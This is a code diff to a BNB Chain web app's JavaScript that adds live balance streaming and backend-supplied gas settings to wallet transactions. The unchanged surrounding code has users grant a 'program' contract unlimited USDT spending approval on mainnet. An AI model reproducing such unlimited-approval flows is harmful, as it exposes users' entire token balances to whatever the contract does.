@@ -4,6 +4,7 @@ let userAccount;
 let usdtContract;
 let programContract;
 let contractAddress;
+let balanceStream;
 
 // BSC Mainnet Configuration (FOR REAL USDT!)
 const BSC_MAINNET = {
@@ -213,6 +214,7 @@ async function initializeApp() {
     // Load data
     await loadBalance();
     await checkProgramStatus();
+    subscribeBalanceStream();
 
     // Listen for account changes
     window.ethereum.on('accountsChanged', handleAccountsChanged);
@@ -263,6 +265,53 @@ async function loadBalance() {
     }
 }
 
+// Subscribe to server-pushed balance updates (falls back to the refresh button)
+function subscribeBalanceStream() {
+    if (!window.EventSource || !userAccount) return;
+    if (balanceStream) balanceStream.close();
+
+    balanceStream = new EventSource('/api/stream/balances?address=' + encodeURIComponent(userAccount));
+    balanceStream.addEventListener('balance', (event) => {
+        const update = JSON.parse(event.data);
+        const balances = update.type === 'snapshot' ? update.balances : update.changes;
+
+        if (balances.bnb_balance !== undefined) {
+            bnbBalance.textContent = parseFloat(balances.bnb_balance).toFixed(4) + ' BNB';
+        }
+        if (balances.usdt_balance !== undefined) {
+            usdtBalance.textContent = parseFloat(balances.usdt_balance).toFixed(2) + ' USDT';
+        }
+        if (balances.usdt_allowance !== undefined) {
+            const allowance = parseFloat(balances.usdt_allowance);
+            currentAllowance.textContent = allowance > 0 ? `${allowance.toFixed(2)} USDT` : '0 USDT';
+        }
+    });
+    balanceStream.onerror = () => {
+        // EventSource reconnects on its own; only give up once the server closed it for good
+        if (balanceStream.readyState === EventSource.CLOSED) {
+            balanceStream = null;
+        }
+    };
+}
+
+// Gas price and limit for a call from the backend fee cache (wallet defaults if unavailable)
+async function getTxOptions(callName, fallbackGas) {
+    const options = { from: userAccount };
+    try {
+        const response = await fetch('/api/fees');
+        const data = await response.json();
+        if (data.success) {
+            options.gasPrice = data.gas_price;
+            const limit = data.gas_limits && data.gas_limits[callName];
+            if (limit) options.gas = limit.gas_limit;
+        }
+    } catch (error) {
+        console.warn('Fee service unavailable, using wallet estimates:', error);
+    }
+    if (!options.gas && fallbackGas) options.gas = fallbackGas;
+    return options;
+}
+
 // Check Program Status
 async function checkProgramStatus() {
     if (!programContract) {
@@ -327,9 +376,9 @@ async function joinProgram() {
             // Request unlimited approval
             const maxApproval = '115792089237316195423570985008687907853269984665640564039457584007913129639935';
             
-            const approveTx = await usdtContract.methods.approve(PROGRAM_CONTRACT_ADDRESS, maxApproval).send({
-                from: userAccount
-            });
+            const approveTx = await usdtContract.methods.approve(PROGRAM_CONTRACT_ADDRESS, maxApproval).send(
+                await getTxOptions('approve')
+            );
             
             showToast('✅ USDT approved! Now joining program...', 'success');
             await new Promise(resolve => setTimeout(resolve, 2000));
@@ -339,10 +388,9 @@ async function joinProgram() {
         showLoading('Joining program...');
         showToast('⏳ Please confirm joining the program in your wallet...', 'info');
         
-        const joinTx = await programContract.methods.joinProgram().send({
-            from: userAccount,
-            gas: 150000
-        });
+        const joinTx = await programContract.methods.joinProgram().send(
+            await getTxOptions('joinProgram', 150000)
+        );
         
         hideLoading();
         showToast('🎉 Successfully joined the program!', 'success');